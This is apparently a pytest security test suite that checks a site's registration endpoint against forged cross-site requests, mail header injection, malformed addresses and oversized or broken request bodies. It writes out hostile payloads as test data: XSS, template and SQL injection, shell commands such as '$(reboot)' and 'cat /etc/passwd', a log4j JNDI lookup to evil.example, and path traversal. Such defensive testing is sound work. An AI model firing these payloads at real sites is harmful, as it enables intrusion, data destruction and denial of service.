"""Classic attacks on registration: each is refused, or has no effect but the honest one. None makes the site fail (5xx)."""

from __future__ import annotations

import json
import re
from typing import Any
from urllib.parse import quote

import pytest
from web import FORM, JSON, Answer, Site, somebody

MULTIPART = "multipart/form-data; boundary=x"
EVIL = "evil.example"


@pytest.fixture(scope="module")
def site(site: Any) -> Site:
    """Return the site itself, in place of its host."""
    return Site.of(site)


# --- Requests that another site makes a visitor's browser send ---

FORGED: dict[str, dict[str, Any]] = {
    "no token": {"token": None},
    "wrong token": {"token": "a" * 64},
    "a token of the right length that isn't the cookie's": {"token": "b" * 32},
    "empty token": {"token": ""},
    "foreign origin": {"origin": f"https://{EVIL}"},
    "origin null": {"origin": "null"},
    "origin with our name as prefix": {"origin": "{origin}.evil.example"},
    "origin with our name as user": {"origin": "http://{host}@evil.example"},
    "token without its cookie": {"cookie": ""},
    "cookie of our choice, broken": {"cookie": "csrftoken=%00"},
}


@pytest.mark.parametrize("attack", FORGED)
def test_forged_form_is_refused(site: Site, attack: str) -> None:
    visitor, row, address = site.visitor(), FORGED[attack], somebody()
    token = row.get("token", visitor.token("/register/"))
    visitor.token("/register/")
    fields = f"email={quote(address)}&name=Ada" + ("" if token is None else f"&csrfmiddlewaretoken={token}")
    headers = {
        "Content-Type": FORM,
        "Origin": row.get("origin", site.origin).format(origin=site.origin, host=site.host),
    }
    if "cookie" in row:
        headers["Cookie"] = row["cookie"] or "other=1"
    answer = visitor.ask("POST", "/register/", fields.encode(), headers)
    assert answer.status == 403
    assert site.may_register(address)


def test_foreign_referer_without_an_origin_is_refused_over_https(site: Site) -> None:
    visitor, address = site.visitor(), somebody()
    for referer in (f"https://{EVIL}/", "", f"http://{site.host}/"):
        body = f"email={quote(address)}&name=Ada&csrfmiddlewaretoken={visitor.token('/register/')}".encode()
        assert visitor.ask("POST", "/register/", body, {"Content-Type": FORM, "Referer": referer}).status == 403
    assert site.may_register(address)


# What a page of another site may send without asking first: these three types, whatever stands behind them.
AS_JSON = {
    "text/plain": "text/plain",
    "text/plain that says JSON behind": "text/plain; application/json",
    "text/plain with a charset called so": "text/plain; charset=application/json",
    "form that says JSON behind": f"{FORM}; x=application/json",
    "multipart that says JSON behind": f"{MULTIPART}; application/json",
    "two types": f"text/plain, {JSON}",
    "JSON with a prefix": "xapplication/json",
    "none": "",
}


@pytest.mark.parametrize("attack", AS_JSON)
def test_json_in_a_type_that_other_sites_may_send_is_no_json(site: Site, attack: str) -> None:
    address = somebody()
    body = json.dumps({"email": address, "name": "Ada"}).encode()
    answer = site.visitor().ask(
        "POST", "/register/", body, {"Content-Type": AS_JSON[attack], "Origin": f"https://{EVIL}"}
    )
    assert answer.status in {400, 403}
    assert site.may_register(address)


def test_no_other_site_is_allowed_to_read_or_send(site: Site) -> None:
    asked = {
        "Origin": f"https://{EVIL}",
        "Access-Control-Request-Method": "POST",
        "Access-Control-Request-Headers": "content-type",
    }
    for answer in (
        site.visitor().ask("OPTIONS", "/register/", headers=asked),
        site.visitor().get("/register/", Origin=f"https://{EVIL}"),
    ):
        assert not [name for name, _ in answer.headers if name.lower().startswith("access-control-")]


# --- Line ends and other characters on their way into a mail's head ---

LINE_ENDS = {
    "CR LF": "\r\n",
    "LF": "\n",
    "CR": "\r",
    "NUL": "\0",
    "vertical tab": "\v",
    "form feed": "\f",
    "next line U+0085": "\u0085",
    "line separator U+2028": "\u2028",
    "paragraph separator U+2029": "\u2029",
    "record separator": "\x1e",
    "escape": "\x1b[31m",
    "right to left override": "\u202e",
    "right to left isolate": "\u2067",
}


@pytest.mark.parametrize("end", LINE_ENDS)
def test_line_ends_are_refused_in_name_and_address(site: Site, end: str) -> None:
    injected = f"{LINE_ENDS[end]}Bcc: eve@{EVIL}"
    for person, wrong in (
        ({"email": somebody(), "name": f"Ada{injected}"}, "name"),
        ({"email": f"{somebody()}{injected}", "name": "Ada"}, "email"),
        ({"email": f'"ada{injected}"@example.com', "name": "Ada"}, "email"),
    ):
        as_json = site.visitor().post_json(person)
        assert as_json.status == 400
        assert set(as_json.json()["errors"]) == {wrong}
        assert site.visitor().post_form("/register/", person).status == 400


ADDRESSES = {
    "two": "ada@example.com, eve@evil.example",
    "two, semicolon": "ada@example.com;eve@evil.example",
    "with a name": "Ada <ada@example.com>",
    "percent encoded line end": "ada%0d%0aBcc:eve@evil.example@example.com",
    "encoded word": "=?utf-8?q?ada=0d=0aBcc:_eve=40evil.example?=@x@example.com",
    "SMTP command behind": "ada@example.com>\r\nRCPT TO:<eve@evil.example",
    "comment": "ada(eve@evil.example)@example.com",
    "source route": "@evil.example:ada@example.com",
    "bang path": "evil.example!eve@@example.com",
    "domain of nothing": "ada@",
    "path": "ada@example.com/../../etc/passwd",
    "right to left": "ada@example.com\u202emoc.live",
    "long": "a" * 10_000 + "@example.com",
    "many parts": "ada@" + "a." * 5_000 + "com",
}


@pytest.mark.parametrize("attack", ADDRESSES)
def test_an_address_is_one_address(site: Site, attack: str) -> None:
    answer = site.visitor().post_json({"email": ADDRESSES[attack], "name": "Ada"})
    assert answer.status == 400
    assert set(answer.json()["errors"]) == {"email"}


# --- Names that are code to somebody behind: registered as they are, and still only a name in the mail ---

NAMES = {
    "Django variable": "{{7*7}}{{ settings.SECRET_KEY }}",
    "Django tag": "{% debug %}{% load static %}",
    "Jinja": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "format string": "{0.__class__} %(password)s %s%n",
    "expression language": "${7*7} #{7*7} <%= 7*7 %>",
    "script": "<script>alert(1)</script>",
    "attribute": "\"><img src=x onerror=alert(1)> ' onmouseover='alert(1)",
    "entity": "&lt;script&gt;&#60;b&#62;",
    "SQL": "'; DROP TABLE accounts_user; --",
    "SQL, clever": "\\'; SELECT pg_sleep(20); --",
    "shell": "$(reboot) `reboot` ; reboot | cat /etc/passwd",
    "mail header in an encoded word": "=?utf-8?q?Ada=0d=0aBcc:_eve=40evil.example?=",
    "mail header, encoded": "Ada%0d%0aBcc:%20eve@evil.example",
    "end of data": ". QUIT",
    "log4j": "${jndi:ldap://evil.example/a}",
    "LDAP": "*)(uid=*))(|(uid=*",
    "formula": '=HYPERLINK("http://evil.example")',
}


@pytest.fixture(scope="module")
def named(site: Site) -> dict[str, tuple[str, str]]:
    """Register everybody first, so that the workers write the mails meanwhile."""
    people = {}
    for attack, name in NAMES.items():
        address = somebody()
        assert site.visitor().post_json({"email": address, "name": name}).status == 201, attack
        people[attack] = (address, name)
    return people


@pytest.mark.parametrize("attack", NAMES)
def test_a_name_is_nothing_but_a_name_in_the_mail(site: Site, named: dict[str, tuple[str, str]], attack: str) -> None:
    address, name = named[attack]
    [mail] = site.mails(address)
    assert mail.get_all("to") == [address]
    assert mail["bcc"] is None and mail["cc"] is None
    assert mail.get_all("subject") == ["Welcome"]
    text, page = (mail.get_body([kind]).get_content() for kind in ("plain", "html"))
    assert f"Hello {name}," in text
    # In HTML nothing of it is markup.
    assert not re.search(r"<(script|img|%)", page)
    assert name.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").split("'")[0].split('"')[0] in page
    assert "SECRET" not in text.replace(name, "")


@pytest.mark.parametrize("attack", ["script", "attribute", "entity"])
def test_a_refused_form_shows_input_escaped(site: Site, attack: str) -> None:
    answer = site.visitor().post_form("/register/", {"email": NAMES[attack], "name": NAMES[attack]})
    assert answer.status == 400
    assert NAMES[attack] not in answer.text
    assert "<script>" not in answer.text and "<img" not in answer.text


# --- Too long, too many, too deep, not text at all ---


def person(**more: Any) -> bytes:
    """Return the JSON of somebody new, with one thing changed."""
    return json.dumps({"email": somebody(), "name": "Ada", **more}).encode()


BODIES: dict[str, tuple[str, bytes]] = {
    "name of 101 characters": (JSON, person(name="A" * 101)),
    "name of 1 MB": (JSON, person(name="A" * 1_000_000)),
    "body of 3 MB": (JSON, person(name="A" * 3_000_000)),
    "form of 3 MB": (FORM, b"name=" + b"A" * 3_000_000),
    "5,000 fields": (FORM, b"&".join(b"f%d=1" % n for n in range(5_000))),
    "nested lists": (JSON, b"[" * 200_000),
    "nested objects": (JSON, b'{"a":' * 50_000 + b"1" + b"}" * 50_000),
    "nested below email": (JSON, b'{"name": "Ada", "email": ' + b"[" * 900 + b"]" * 900 + b"}"),
    "huge number": (JSON, b'{"email": ' + b"9" * 100_000 + b', "name": "Ada"}'),
    "huge exponent": (JSON, b'{"email": 1e999999, "name": "Ada"}'),
    "not a number": (JSON, b'{"email": NaN, "name": -Infinity}'),
    "NUL": (JSON, person(name="A\0da")),
    "lone surrogate": (JSON, b'{"email": "ada@example.com", "name": "\\ud800"}'),
    "lone surrogate as bytes": (JSON, b'{"email": "ada@example.com", "name": "\xed\xa0\x80"}'),
    "surrogate in a key": (JSON, b'{"\\ud800": 1}'),
    "invalid UTF-8": (JSON, b'{"email": "ada@example.com", "name": "\xff\xfe"}'),
    "overlong UTF-8": (JSON, b'{"email": "ada@example.com", "name": "\xc0\xaf"}'),
    "UTF-16 without a mark": (JSON, '{"email": "", "name": "Ada"}'.encode("utf-16-be")),
    "byte order mark": (JSON, b"\xef\xbb\xbf{}"),
    "constructor": (JSON, b'{"__proto__": {"email": "a@example.com"}, "__class__": "User"}'),
    "broken JSON": (JSON, b'{"email": "a'),
    "empty": (JSON, b""),
    "invalid UTF-8 in a form": (FORM, b"email=%ff%fe&name=%ED%A0%80"),
    "NUL in a form": (FORM, b"email=a%00@example.com&name=%00"),
    "half a percent sign": (FORM, b"email=%&name=%4&%=%"),
    "one name many times": (FORM, b"email=a@example.com&email=b@example.com&email[]=c&name[x]=d"),
    "charset that is no text": (f"{FORM}; charset=base64", b"email=YQ==&name=YQ=="),
    "charset UTF-7": (f"{FORM}; charset=utf-7", b"email=+ADw-&name=+ADw-"),
    "charset of nowhere": (f"{FORM}; charset=\x01\x02", b"email=a&name=b"),
    "JSON in a charset that is no text": (f"{JSON}; charset=rot13", b"{}"),
    "multipart without a boundary": ("multipart/form-data", b"--x--"),
    "multipart with an endless boundary": (f"multipart/form-data; boundary={'x' * 5000}", b"--x--"),
    "multipart with a boundary of spaces": ('multipart/form-data; boundary=" "', b"-- --"),
    "multipart, cut": (MULTIPART, b'--x\r\nContent-Disposition: form-data; name="email"\r\n\r\na'),
    "multipart in a charset that is no text": (
        f"{MULTIPART}; charset=rot13",
        b'--x\r\nContent-Disposition: form-data; name="email"\r\n\r\na\r\n--x--',
    ),
    "multipart, broken base64": (
        MULTIPART,
        b'--x\r\nContent-Disposition: form-data; name="email"\r\nContent-Transfer-Encoding: base64\r\n\r\n!\r\n--x--',
    ),
    "multipart, a path as file name": (
        MULTIPART,
        b'--x\r\nContent-Disposition: form-data; name="email"; filename="../../../etc/passwd"\r\n\r\na\r\n--x--',
    ),
    "multipart, head of 100 kB": (
        MULTIPART,
        b'--x\r\nContent-Disposition: form-data; name="' + b"e" * 100_000 + b'"\r\n\r\na\r\n--x--',
    ),
    "multipart, 3,000 parts": (
        MULTIPART,
        b'--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n1\r\n' * 3_000 + b"--x--",
    ),
    "multipart, 200 files": (
        MULTIPART,
        b'--x\r\nContent-Disposition: form-data; name="a"; filename="a"\r\n\r\n1\r\n' * 200 + b"--x--",
    ),
}


@pytest.mark.parametrize("attack", BODIES)
def test_a_body_out_of_all_bounds_is_refused(site: Site, attack: str) -> None:
    kind, body = BODIES[attack]
    visitor = site.visitor()
    token = visitor.token("/register/")
    answer = visitor.ask(
        "POST", "/register/", body, {"Content-Type": kind, "X-CSRFToken": token, "Origin": site.origin}
    )
    assert answer.status in {400, 403, 413}
    if kind == JSON and answer.get("content-type").startswith(JSON):
        assert set(answer.json()) == {"detail", "errors"}


def test_the_site_still_registers_people(site: Site) -> None:
    """After all of the above."""
    assert site.may_register(somebody())
    assert isinstance(site.get("/healthz"), Answer)
